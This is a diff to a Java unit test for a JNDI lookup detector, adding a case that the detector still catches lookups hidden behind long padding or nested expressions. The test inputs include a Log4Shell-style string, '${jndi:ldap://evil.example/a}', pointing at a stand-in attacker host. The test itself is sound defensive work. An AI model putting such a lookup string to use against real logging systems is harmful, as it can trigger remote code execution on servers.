@@ -84,6 +84,15 @@ class JndiDetectorTest {
   }
 
   @Test
+  void aLookupAfterALevelThatKeepsNoMoreTextIsStillResolved() {
+    // the outer level is full after its first characters: the resolver jumps to the next ${ or }, and must land on it
+    String padded = "${" + "a:".repeat(2000) + "${jndi:ldap://evil.example/a}";
+    assertNotNull(detect(padded));
+    assertNotNull(detect("${" + "x".repeat(5000) + "}${jndi:ldap://evil.example/a}"), "after the closing brace");
+    assertNull(detect("${" + "x".repeat(5000) + "${lower:" + "y".repeat(600) + "}}"));
+  }
+
+  @Test
   void nestingDeeperThanTheBoundIsKeptAsText() {
     String deep = "${lower:".repeat(20) + "x" + "}".repeat(20);
     assertNull(detect(deep));
